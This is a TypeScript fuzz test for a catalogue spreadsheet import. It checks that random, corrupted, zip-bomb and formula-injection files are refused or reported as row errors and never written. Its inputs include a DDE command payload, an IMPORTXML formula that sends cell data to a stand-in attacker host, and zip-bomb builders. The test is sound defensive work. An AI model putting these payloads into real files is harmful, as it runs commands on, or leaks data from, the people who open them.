import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { TEST_DB_KINDS, type TestDb, createTestDb } from "../../../../tests/fixtures/databases";
import { NUMERIC_STRINGS, fuzzOptions } from "../../../../tests/fixtures/fuzz";
import { catalogueState, CREATE_OPTIONS, smallCatalogue } from "../../../../tests/fixtures/import";
import { importSpecs } from "../../../../tests/fixtures/import-attributes";
import { makeXlsx, makeZip, WORKBOOK_PARTS } from "../../../../tests/fixtures/zip";
import { parseImportFile } from "./parse.server";
import { planImport } from "./plan.server";
import { ImportRefusal } from "./types";

// Bad files never crash the import. Over 1,000 generated files (random bytes,
// truncated and corrupted workbooks, zip bombs, 10,000-column CSV, formula injection, random
// text) go through parse and plan: each is refused (ImportRefusal, a 4xx) or planned with row
// errors; nothing else is thrown, nothing is left unhandled, and nothing is written.

// Then three specifications (a choice, a number with a unit, yes/no) and a variant's columns.
const TITLES =
  "sku;nome;preço;preço original;oferta;em estoque;marca;categoria;imagens;voltagem;Potência;sem fio;grupo;opções;estoque";

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example")',
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1",
  "'=1",
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
];

const csvOf = (rows: string[][]) => Buffer.from(rows.map((r) => r.join(";")).join("\n"));

function arbitraries(workbook: Buffer) {
  const bytes = fc.uint8Array({ maxLength: 4096 });
  const truncated = fc.nat({ max: workbook.length - 1 }).map((n) => workbook.subarray(0, n));
  const corrupted = fc
    .array(fc.tuple(fc.nat({ max: workbook.length - 1 }), fc.integer({ min: 0, max: 255 })), {
      minLength: 1,
      maxLength: 16,
    })
    .map((edits) => {
      const copy = Buffer.from(workbook);
      for (const [at, value] of edits) copy[at] = value;
      return copy;
    });
  const sheet = "xl/worksheets/sheet1.xml";
  const bombs = fc.constantFrom(
    makeZip([{ name: sheet, data: Buffer.alloc(64), declaredSize: 2 ** 32 - 1 }]),
    makeZip([{ name: sheet, data: Buffer.alloc(4 * 1024 * 1024), declaredSize: 100 }]),
    makeZip([{ name: "xl/sharedStrings.xml", data: Buffer.alloc(8), declaredSize: 2 ** 30 }]),
    makeZip(Array.from({ length: 1200 }, (_, i) => ({ name: `e${i}`, data: Buffer.from("x") }))),
    makeZip([
      ...WORKBOOK_PARTS,
      { name: sheet, data: Buffer.alloc(4 * 1024 * 1024, 0x3c), declaredSize: 64 },
    ]),
  );
  const wide = fc.integer({ min: 150, max: 10_000 }).map((n) => {
    const titles = ["sku", ...Array.from({ length: n }, (_, i) => `coluna ${i}`)];
    return csvOf([titles, titles.map((_, i) => String(i))]);
  });
  const cell = fc.oneof(
    fc.constantFrom(...FORMULAS, ...NUMERIC_STRINGS, "sim", "não", "x", "Bosch", "1", ""),
    fc.constantFrom("220 V", "bivolt", "Batería 18V", "650 W", "1,5", "1.500", "-0", "1e999"),
    fc.constantFrom("g1", "G1", "7", "007", "voltagem", "voltagem|potencia", "Voltage|voltagem"),
    fc.string({ maxLength: 30 }),
    fc.string({ unit: "grapheme", maxLength: 30 }),
    fc.webUrl().map((u) => `${u}|${u.replace("https:", "http:")}`),
  );
  const formulaRows = fc
    .array(fc.array(cell, { minLength: 15, maxLength: 15 }), { minLength: 1, maxLength: 30 })
    .map((rows) => csvOf([TITLES.split(";"), ...rows]));
  const text = fc
    .string({ unit: fc.constantFrom(...';,"\n\r\tabcçã=+-@|1.0 '.split("")), maxLength: 600 })
    .map((body) => Buffer.from(`${TITLES}\n${body}`));
  const encoded = fc
    .uint8Array({ maxLength: 800 })
    .map((b) => Buffer.concat([Buffer.from(`${TITLES}\n`), b]));
  return fc.oneof(
    { arbitrary: bytes, weight: 2 },
    { arbitrary: truncated, weight: 2 },
    { arbitrary: corrupted, weight: 2 },
    { arbitrary: bombs, weight: 1 },
    { arbitrary: wide, weight: 1 },
    { arbitrary: formulaRows, weight: 3 },
    { arbitrary: text, weight: 3 },
    { arbitrary: encoded, weight: 2 },
  );
}

describe.each(TEST_DB_KINDS)("bad import files on %s", (kind) => {
  let t: TestDb;
  let workbook: Buffer;
  beforeAll(async () => {
    t = await createTestDb(kind);
    await smallCatalogue(t.db);
    await importSpecs(t.db);
    workbook = await makeXlsx({
      Produtos: [
        TITLES.split(";"),
        [
          "A-1",
          "=cmd|' /C calc'!A0",
          10,
          "",
          "sim",
          "x",
          "Bosch",
          2,
          "https://example.com/a.jpg",
          "220v",
          650.5,
          true,
        ],
        ["A-2", "Serra", "abc", 5, "talvez", "", "Ninguém", "Nenhuma", "http://example.com", 7],
      ],
    });
  });
  afterAll(() => t.cleanup());

  it("are refused or planned with errors, never thrown otherwise, never written", async () => {
    const before = await catalogueState(t.db);
    const unhandled: unknown[] = [];
    const onUnhandled = (error: unknown) => unhandled.push(error);
    process.on("unhandledRejection", onUnhandled);
    process.on("uncaughtException", onUnhandled);
    const seen = { refused: 0, planned: 0 };
    try {
      await fc.assert(
        fc.asyncProperty(arbitraries(workbook), fc.boolean(), async (bytes, createMissing) => {
          try {
            const parsed = await parseImportFile(bytes);
            const plan = await planImport(t.db, parsed, { ...CREATE_OPTIONS, createMissing });
            expect(Array.isArray(plan.errors)).toBe(true);
            seen.planned++;
          } catch (error) {
            if (!(error instanceof ImportRefusal)) throw error;
            expect([400, 413]).toContain(error.status);
            seen.refused++;
          }
        }),
        fuzzOptions(kind === "sqlite" ? 1100 : 250),
      );
      // Anything a reader left running fails late: give it a moment to surface.
      await new Promise((resolve) => setTimeout(resolve, 200));
    } finally {
      process.off("unhandledRejection", onUnhandled);
      process.off("uncaughtException", onUnhandled);
    }
    expect(unhandled).toEqual([]);
    expect(seen.refused).toBeGreaterThan(0);
    expect(seen.planned).toBeGreaterThan(0);
    expect(await catalogueState(t.db)).toEqual(before);
  }, 120_000);
});
